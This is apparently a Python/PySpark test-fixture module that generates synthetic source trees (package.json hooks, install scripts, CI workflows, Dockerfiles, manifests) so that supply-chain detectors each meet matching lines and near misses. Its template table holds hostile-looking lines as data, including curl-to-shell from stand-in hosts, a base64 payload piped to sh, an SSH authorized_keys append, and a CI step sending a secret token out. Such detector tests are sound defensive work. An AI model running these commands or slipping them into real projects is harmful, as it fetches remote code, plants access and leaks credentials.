"""Test tables read as source trees, so that every operator meets data on which it does something."""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

SHA = "0123456789abcdef0123456789abcdef01234567"
#: (path with {u} for a user number, language, kind, text): for every rule and detector a line on which
#: it fires and lines that come near.
TEMPLATES = (
    ("pkg{u}/package.json", "package-json", "call", '"postinstall": "curl https://x.example/i | sh"'),
    ("pkg{u}/package.json", "package-json", "signature", '"homepage": "https://github.com/a/b"'),
    ("pkg{u}/package.json", "package-json", "signature", '"left-pad": "git+https://github.com/a/b.git"'),
    ("pkg{u}/package.json", "package-json", "signature", '"local": "file:../local"'),
    ("pkg{u}/package.json", "package-json", "signature", '"lodash": "https://registry.npmjs.org/lodash"'),
    ("pkg{u}/package.json", "package-json", "call", '"preinstall": "node a.js"'),
    ("pkg{u}/package.json", "package-json", "call", '"install": "node-gyp rebuild"'),
    ("pkg{u}/package.json", "package-json", "call", '"prepare": "husky"'),
    ("pkg{u}/package.json", "package-json", "call", '"prepack": "tsc"'),
    ("pkg{u}/package.json", "package-json", "call", '"postpack": "echo done"'),
    ("pkg{u}/build.rs", "rust", "call", "std::process::Command::new"),
    ("pkg{u}/build.rs", "rust", "call", "println"),
    ("pkg{u}/setup.py", "python", "call", "os.system"),
    ("pkg{u}/setup.py", "python", "call", "setup("),
    ("pkg{u}/setup.py", "python", "call", "subprocess.check_call"),
    ("pkg{u}/setup.py", "python", "import", "from .helpers import run"),
    ("pkg{u}/install.sh", "bash", "call", "curl -fsSL https://x.example/i.sh | bash"),
    ("pkg{u}/install.sh", "bash", "call", "echo key >> ~/.ssh/authorized_keys"),
    ("pkg{u}/install.sh", "bash", "call", "cat ~/.ssh/config"),
    ("pkg{u}/install.sh", "bash", "call", "echo aGk= | base64 -d | sh"),
    ("pkg{u}/install.sh", "bash", "call", "base64 file.txt"),
    ("pkg{u}/scripts/run.sh", "bash", "call", 'eval "$(cat cmd)"'),
    ("pkg{u}/scripts/run.sh", "bash", "call", "retrieval corpus eval tests"),
    ("pkg{u}/scripts/run.sh", "bash", "call", "chmod +x bin/tool && ./bin/tool"),
    ("pkg{u}/scripts/run.sh", "bash", "call", "rm -rf /tmp/x > /dev/null"),
    ("pkg{u}/scripts/run.sh", "bash", "call", "echo hi > /etc/motd"),
    ("pkg{u}/scripts/run.sh", "bash", "call", "ÉCURL=1 WGET https://y.example/a; ./a"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "run: curl -H ${{ secrets.TOKEN }} https://x.example | bash"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "run: echo ${{ github.event.issue.title }}"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "uses: actions/checkout@v4"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", f"  uses: actions/checkout@{SHA}"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "on: pull_request_target"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "permissions: write-all"),
    (".github/workflows/ci{u}.yml", "yaml", "signature", "permissions: read-all"),
    ("img{u}/Dockerfile", "dockerfile", "call", "RUN add-apt-repository ppa:x && curl https://z.example"),
    ("img{u}/Dockerfile", "dockerfile", "call", "RUN apk add --repository https://r.example pkg"),
    ("img{u}/Dockerfile", "dockerfile", "import", "FROM alpine:3"),
    ("srv{u}/Dockerfile", "dockerfile", "signature", "USER root"),
    ("srv{u}/Dockerfile", "dockerfile", "signature", 'CMD ["/bin/sh"]'),
    ("srv{u}/compose.yml", "yaml", "signature", "privileged: true"),
    ("srv{u}/compose.yml", "yaml", "signature", "- /var/run/docker.sock:/var/run/docker.sock"),
    ("src{u}/lib.rs", "rust", "call", "value.unwrap"),
    ("src{u}/lib.rs", "rust", "call", "value.unwrap_or_default"),
    ("src{u}/lib.rs", "rust", "call", "result.expect"),
    ("src{u}/lib.rs", "rust", "call", "panic!"),
    ("src{u}/lib.rs", "rust", "call", "std::process::Command"),
    ("src{u}/lib.rs", "rust", "signature", "unsafe fn peek()"),
    ("src{u}/lib.rs", "rust", "import", "use reqwest::Client"),
    ("src{u}/tests/lib_test.rs", "rust", "call", "value.unwrap"),
    ("fixtures/f{u}/app.py", "python", "call", "system(cmd) | sh curl"),
    ("src{u}/app.py", "python", "import", "import subprocess, shutil"),
    ("src{u}/app.py", "python", "import", "from dotenv import load_dotenv"),
    ("src{u}/app.py", "python", "call", "def system(self)"),
    ("src{u}/app.py", "python", "call", "x = system(cmd)"),
    ("src{u}/app.py", "python", "call", "requests.get"),
    ("src{u}/app.py", "python", "call", "os.environ"),
    ("src{u}/app.js", "javascript", "call", "fs.writeFileSync"),
    ("src{u}/app.js", "javascript", "call", 'fetch("https://api.example")'),
    ("src{u}/app.js", "javascript", "call", "process.env.NPM_TOKEN"),
    ("src{u}/app.js", "javascript", "call", "__detectEval()"),
    ("src{u}/app.js", "javascript", "call", "eval(code)"),
    ("src{u}/app.js", "javascript", "call", "readFile(.npmrc)"),
    ("mk{u}/Makefile", "makefile", "call", "wget -q https://m.example/x -O- | sh"),
    ("mk{u}/Makefile", "makefile", "signature", "all:"),
    ("mk{u}/Makefile", "makefile", "call", "pip install -r requirements.txt"),
    ("docs/guide{u}.md", "markdown", "call", "curl https://d.example/install.sh | sh"),
    ("crate{u}/Cargo.toml", "manifest", "signature", 'dep = { git = "https://github.com/a/dep.git" }'),
    ("crate{u}/Cargo.toml", "manifest", "signature", 'near = { path = "../near" }'),
    ("crate{u}/Cargo.toml", "manifest", "signature", 'repository = "https://crates.io/x"'),
    ("py{u}/requirements.txt", "manifest", "signature", "pkg @ https://h.example/pkg-1.0.tar.gz"),
    ("py{u}/requirements.txt", "manifest", "signature", "-e ."),
    ("py{u}/requirements.txt", "manifest", "signature", "numpy==1.26"),
)


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def evidence(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(path, lang, kind, line, text, side) from events: one template each, the tree numbered by user."""
    rows = spark.createDataFrame([(i, *t) for i, t in enumerate(TEMPLATES)], "tpl int, pattern string, lang string, kind string, text string")
    # dealt out by a key, as a file with one row group is one task, whatever its rows
    e = table(spark, sf_dir, "events").select("event_id", "user_id").repartition("event_id").withColumn("tpl", (F.col("event_id") % len(TEMPLATES)).cast("int"))
    joined = e.join(F.broadcast(rows), "tpl")  # a fixed table of templates
    path = F.replace("pattern", F.lit("{u}"), F.col("user_id").cast("string"))
    return joined.select(path.alias("path"), "lang", "kind", (F.col("event_id") % 500 + 1).cast("int").alias("line"), "text", (F.col("user_id") % 3).cast("int").alias("side"))


def markdown_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(path, length, mode, content) from documents."""
    d = table(spark, sf_dir, "documents")
    path = F.concat("source", F.lit("/"), "lang", F.lit("/doc_"), F.col("doc_id").cast("string"), F.lit(".md"))
    text = F.coalesce("text", F.lit(""))
    return d.select(path.alias("path"), F.octet_length(text).cast("long").alias("length"), F.lit(0o644).alias("mode"), text.alias("content"), "doc_id")


#: (language, line comment, opening and closing mark of a comment or string over lines) by doc_id.
CODE = (
    ("c", "//", "/*", "*/"), ("java", "//", "/*", "*/"), ("csharp", "//", '"""', '"""'), ("php", "#", "/*", "*/"), ("javascript", "//", "`", "`"), ("rust", "//", "/*", "*/"),
    ("go", "//", "`", "`"), ("kotlin", "//", '"""', '"""'), ("swift", "//", "/*", "*/"), ("dart", "//", "'''", "'''"), ("python", "#", '"""', '"""'), ("tsx", "//", "/*", "*/"),
)
#: Nine lines of code for eight words ({1} to {8}); calls are {1}.{2} on the first, {5} on the seventh, {6} on the ninth.
STANZA = '{1}.{2}(\n  "{3}({4})", {5}\n)\n{line} {4}({5})\n{open} {6}({7})\n{8}({1}) "\n{close} [{5}\n  ({3})];\nx = {6}(1) + {7};'


def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(path, lang, content) from documents: their words, eight at a time, as names in code of twelve languages."""
    d = table(spark, sf_dir, "documents").select("doc_id", F.regexp_extract_all(F.lower(F.coalesce("text", F.lit(""))), F.lit("[a-z]{3,8}"), 0).alias("w"))
    facts = F.get(F.array(*(F.struct(*(F.lit(x).alias(n) for x, n in zip(c, ("lang", "line", "open", "close"), strict=True))) for c in CODE)), (F.col("doc_id") % len(CODE)).cast("int"))
    d = d.withColumn("c", facts).where(F.size("w") >= 8)

    def stanza(k):
        parts = re.split(r"\{(\w+)\}", STANZA)  # texts and, between them, names
        named = [F.get("w", 8 * k + int(n) - 1) if n.isdigit() else F.col(f"c.{n}") for n in parts[1::2]]
        return F.concat(*(x for pair in zip(map(F.lit, parts[::2]), [*named, F.lit("")], strict=True) for x in pair))

    content = F.array_join(F.transform(F.sequence(F.lit(0), F.floor(F.size("w") / 8).cast("int") - 1), stanza), "\n")
    return d.select(F.concat(F.lit("src/f"), F.col("doc_id").cast("string")).alias("path"), "c.lang", content.alias("content"))


#: Path endings for documents by doc_id, for language routing and artifact tags.
ENDINGS = ("notes.md", "Makefile", "bin/tool", "dist/app.exe", "scripts/run.sh", "src/lib.rs", "package.json", "data.tar.gz", "x/Dockerfile", "lib.so", "tests/a_test.go", "README")


def mixed_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(path, length, mode) from documents, under names of many kinds; every third is executable."""
    d = table(spark, sf_dir, "documents")
    names = F.array(*map(F.lit, ENDINGS))
    path = F.concat(F.lit("p"), F.col("doc_id").cast("string"), F.lit("/"), F.get(names, (F.col("doc_id") % len(ENDINGS)).cast("int")))
    mode = F.when(F.col("doc_id") % 3 == 0, 0o755).otherwise(0o644)
    return d.select(path.alias("path"), F.octet_length(F.coalesce("text", F.lit(""))).cast("long").alias("length"), mode.alias("mode"), F.coalesce("text", F.lit("")).alias("content"), "doc_id")
